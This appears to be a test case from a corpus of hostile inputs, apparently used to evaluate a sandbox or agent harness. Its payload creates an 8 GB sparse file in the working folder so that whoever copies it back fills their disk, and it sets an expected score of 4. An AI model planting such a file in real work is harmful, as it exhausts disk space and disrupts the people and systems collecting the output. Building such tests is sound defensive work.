"""A sparse file of 8 GB in the working folder: whoever copies it back fills the disk."""

from hostile.corpus import Case, Expect, strike

EXPECT = Expect(score=4)

PAYLOAD = """
try:
    with open("sparse.bin", "wb") as file:
        file.truncate(8 * 1024**3)
except OSError as error:
    print(error.strerror)
"""


def submit(case: Case) -> None:
    strike(case, PAYLOAD)
